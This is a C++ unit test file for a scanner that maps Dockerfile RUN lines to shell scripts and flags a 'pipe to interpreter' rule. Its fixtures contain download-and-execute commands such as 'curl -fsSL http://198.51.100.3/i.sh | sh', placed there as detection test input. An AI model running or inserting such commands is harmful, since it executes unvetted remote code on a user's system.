// Dockerfiles: their RUN instructions read as a shell script that keeps the file's lines.
#include <gtest/gtest.h>

#include "dockerfile_source.hpp"
#include "test_support.hpp"

namespace nonaxis::ciso::detail {
namespace {

TEST(DockerfileSource, RunInstructionsBecomeAScriptWithTheSameLines) {
  const std::string src =
      "FROM debian:12\n"
      "RUN apt-get update && \\\n"
      "    apt-get install -y curl\n"
      "RUN --mount=type=cache,target=/c curl -s x | sh\n"
      "RUN [\"echo\", \"exec form\"]\n"
      "CMD [\"bash\"]\n";
  // Each blanked span is as long as what it replaces.
  const std::string want = std::string(14, ' ') + "\n    apt-get update && \\\n    apt-get install -y curl\n" +
                           std::string(33, ' ') + "curl -s x | sh\n" + std::string(25, ' ') + "\n" +
                           std::string(12, ' ') + "\n";
  EXPECT_EQ(dockerfile_run_script(src), want);
  EXPECT_TRUE(looks_like_dockerfile(src));
  EXPECT_FALSE(looks_like_dockerfile("echo FROM here\nRUN=1\n"));
  EXPECT_TRUE(is_dockerfile_name("build/Dockerfile.dev"));
  EXPECT_TRUE(is_dockerfile_name("app.dockerfile"));
  EXPECT_FALSE(is_dockerfile_name("docs/dockerfiles.md"));
}

TEST(DockerfileSource, HereDocumentsStayWithTheirRun) {
  EXPECT_EQ(dockerfile_run_script("RUN <<EOF\ncurl x | sh\nEOF\nENV A=1"), "    <<EOF\ncurl x | sh\nEOF\n       ");
}

TEST(DockerfileSource, AFindingPointsAtTheRunLine) {
  const auto a = nonaxis::ciso::testing::run("FROM debian:12\nENV A=1\nRUN curl -fsSL http://198.51.100.3/i.sh | sh\n", false);
  ASSERT_TRUE(nonaxis::ciso::testing::has_rule(a, "download_exec.pipe_to_interpreter"));
  for (const auto& f : a["findings"]) {
    if (f["rule_id"] == "download_exec.pipe_to_interpreter") {
      EXPECT_EQ(f["line"], 3);
    }
  }
}

}  // namespace
}  // namespace nonaxis::ciso::detail
